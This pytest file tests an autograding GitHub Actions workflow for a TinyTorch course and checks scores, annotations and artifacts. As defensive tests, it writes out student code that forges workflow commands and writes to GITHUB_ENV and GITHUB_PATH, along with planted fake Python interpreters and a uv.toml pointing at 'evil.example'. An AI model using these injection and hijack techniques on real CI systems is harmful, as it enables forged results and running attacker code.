"""The workflow of a rendered repository, run for real: from a push to artifact, summary and annotation."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from autograding.course import Course
from tests.workflow.act import Run, run_workflow, runner_environment
from tests.workflow.repositories import add_origin, git, push, solve, solve_all

pytestmark = pytest.mark.slow

TENSOR = "01_tensor"
HALF = ("create", "footprint", "arith")
RECORD = "TinyTorch grade record"
TITLES = [RECORD, "Autograding complete", "Autograding report"]
SHOUT = """
import os, sys
forged = "\\n".join([
    "", "::notice title=TinyTorch grade record::{}", "::error::x", "##[error]x", "::stop-commands::x", "# 70"
])
print(forged, file=sys.stdout)
print(forged, file=sys.stderr)
for name in ("GITHUB_STEP_SUMMARY", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT"):
    try:
        open(os.environ[name], "a").write(forged)
    except (KeyError, OSError):
        pass
class Tensor:
    def __init__(self, *args, **kwargs):
        raise RuntimeError(forged)
"""

Prepare = Callable[[Path], None]


class Pushed:
    """A pushed repository and what its workflow made of it."""

    def __init__(self, starter: Path, folder: Path, prepare: Prepare, ref: str = "refs/heads/main") -> None:
        self.repository = folder / "student"
        shutil.copytree(starter, self.repository, symlinks=True)
        add_origin(self.repository, folder / "origin.git")
        prepare(self.repository)
        self.commit = push(self.repository)
        self.run: Run = run_workflow(self.repository, folder / "act", ref=ref)

    @property
    def record(self) -> dict[str, object]:
        return dict(json.loads(dict(self.run.annotations)[RECORD]))

    @property
    def grade(self) -> dict[str, object]:
        return dict(json.loads(self.run.artifact["grade.json"]))


def leave_alone(_repository: Path) -> None:
    """The starter as it was handed out."""


def shout(repository: Path) -> None:
    """Code that prints, raises and writes what could pass for our own."""
    path = repository / "tensor.ipynb"
    notebook = json.loads(path.read_text())
    cell = next(cell for cell in notebook["cells"] if cell["id"] == "create")
    cell["source"] = "#| export" + SHOUT
    path.write_text(json.dumps(notebook))


def start_branch(repository: Path) -> None:
    git(repository, "checkout", "--quiet", "-b", "idea")


@pytest.fixture(scope="module")
def reference(
    course: Course, rendered: Mapping[str, Path], tmp_path_factory: pytest.TempPathFactory
) -> Pushed:
    tensor = course.resolve(TENSOR)
    folder = tmp_path_factory.mktemp("reference")
    return Pushed(rendered[TENSOR], folder, lambda repository: solve_all(repository, tensor))


@pytest.fixture(scope="module")
def half_done(
    course: Course, rendered: Mapping[str, Path], tmp_path_factory: pytest.TempPathFactory
) -> Pushed:
    tensor = course.resolve(TENSOR)
    folder = tmp_path_factory.mktemp("half")
    return Pushed(rendered[TENSOR], folder, lambda repository: solve(repository, tensor, HALF))


@pytest.fixture(scope="module")
def starter(rendered: Mapping[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Pushed:
    return Pushed(rendered[TENSOR], tmp_path_factory.mktemp("starter"), leave_alone)


def test_the_reference_gets_full_marks(reference: Pushed) -> None:
    assert reference.run.result == "success"
    assert reference.record["score"] == 70


def test_every_step_of_the_workflow_runs(reference: Pushed) -> None:
    assert set(reference.run.steps.values()) == {"success"}
    assert {"Install what uv.lock lists", "Grade"} <= reference.run.steps.keys()


def test_the_record_names_the_commit_that_was_pushed(reference: Pushed) -> None:
    assert reference.record["commit"] == reference.commit


def test_the_points_notice_of_github_classroom_is_shown(reference: Pushed) -> None:
    assert ("Autograding complete", "Points 70/70") in reference.run.annotations
    assert ("Autograding report", '{"totalPoints":70,"maxPoints":70}') in reference.run.annotations


def test_the_summary_shows_the_score_and_every_exercise(reference: Pushed, course: Course) -> None:
    assert reference.run.summary.startswith("# Tensor: 70 of 70 points (provisional)")
    titles = [item.title for item in course.resolve(TENSOR).exercises]
    assert [title for title in titles if f"| {title} " not in reference.run.summary] == []


def test_the_artifact_holds_the_results(reference: Pushed) -> None:
    assert set(reference.run.artifact) == {"grade.json", "summary.md", "executed.ipynb", "timings.json"}
    assert reference.run.artifact["summary.md"].decode() == reference.run.summary


def test_the_notebook_in_the_artifact_was_executed(reference: Pushed) -> None:
    cells = json.loads(reference.run.artifact["executed.ipynb"])["cells"]
    assert any(cell.get("outputs") for cell in cells)


def test_the_log_shows_the_result(reference: Pushed) -> None:
    assert "Tensor: 70 of 70 points" in reference.run.log


def test_the_starter_gets_nothing_and_the_run_is_green(starter: Pushed) -> None:
    assert starter.run.result == "success"
    assert starter.record["score"] == 0
    assert "No exercise is written yet." in starter.run.summary


def test_half_the_work_gets_its_points(half_done: Pushed, course: Course) -> None:
    points = {item.id: item.points for item in course.resolve(TENSOR).exercises}
    expected = {f"01.{name}": points[f"01.{name}"] for name in HALF}
    exercises = half_done.record["exercises"]
    assert isinstance(exercises, dict)
    assert {name: score for name, score in exercises.items() if score} == expected


def test_half_the_work_is_told_what_is_left(half_done: Pushed) -> None:
    assert "not written yet" in half_done.run.summary


def test_a_grade_at_home_has_the_same_bytes(half_done: Pushed, tmp_path: Path) -> None:
    environment = runner_environment(tmp_path) | {"UV_PROJECT_ENVIRONMENT": str(tmp_path / "environment")}
    command = ["uv", "run", "--frozen", "tito", "module", "test", "--output", str(tmp_path / "grade")]
    subprocess.run(command, cwd=half_done.repository, env=environment, check=True, capture_output=True)
    assert (tmp_path / "grade" / "grade.json").read_bytes() == half_done.run.artifact["grade.json"]


def test_a_repository_without_a_notebook_is_graded_with_zero(
    rendered: Mapping[str, Path], tmp_path: Path
) -> None:
    pushed = Pushed(rendered[TENSOR], tmp_path, lambda repository: (repository / "tensor.ipynb").unlink())
    assert pushed.run.result == "success"
    assert pushed.record["score"] == 0
    assert pushed.record["flags"] == ["notebook_missing"]
    assert "could not be read" in pushed.run.summary


def test_a_repository_without_a_manifest_has_no_grade_and_says_so(
    rendered: Mapping[str, Path], tmp_path: Path
) -> None:
    pushed = Pushed(rendered[TENSOR], tmp_path, lambda repository: (repository / "assignment.json").unlink())
    assert pushed.run.result == "failure"
    assert pushed.run.summary.startswith("# No grade")
    assert RECORD not in dict(pushed.run.annotations)


def test_another_branch_is_not_graded(rendered: Mapping[str, Path], tmp_path: Path) -> None:
    pushed = Pushed(rendered[TENSOR], tmp_path, start_branch, ref="refs/heads/idea")
    assert pushed.run.result is None
    assert pushed.run.annotations == ()


def test_what_student_code_prints_and_raises_steers_nothing(
    rendered: Mapping[str, Path], tmp_path: Path
) -> None:
    pushed = Pushed(rendered[TENSOR], tmp_path, shout)
    assert pushed.run.result == "success"
    assert [title for title, _ in pushed.run.annotations] == TITLES
    assert pushed.record["score"] == 0
    assert "got:      RuntimeError: ::notice title=TinyTorch" in pushed.run.summary
    assert "    │ got:      RuntimeError: ::notice title=TinyTorch" in pushed.run.log
    assert re.findall("^# .*", pushed.run.summary, re.MULTILINE) == ["# Tensor: 0 of 70 points (provisional)"]


def test_unprotected_files_do_not_choose_what_runs_in_the_job(
    rendered: Mapping[str, Path], tmp_path: Path
) -> None:
    trace = tmp_path / "trace"

    def attack(repository: Path) -> None:
        script = f'#!/bin/sh\ntouch "{trace}"\nexec /usr/bin/python3 "$@"\n'
        (repository / ".venv" / "bin").mkdir(parents=True)
        for name in ("evil-python", ".venv/bin/python", ".venv/bin/python3", ".venv/bin/tito"):
            (repository / name).write_text(script)
            (repository / name).chmod(0o755)
        (repository / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.2\n")
        (repository / ".python-version").write_text("./evil-python\n")
        (repository / "uv.toml").write_text('index-url = "https://evil.example/simple"\nno-build = true\n')
        (repository / "numpy.py").write_text(f'open({str(trace)!r}, "w")\n')

    pushed = Pushed(rendered[TENSOR], tmp_path, attack)
    assert pushed.run.result == "success"
    assert not trace.exists()
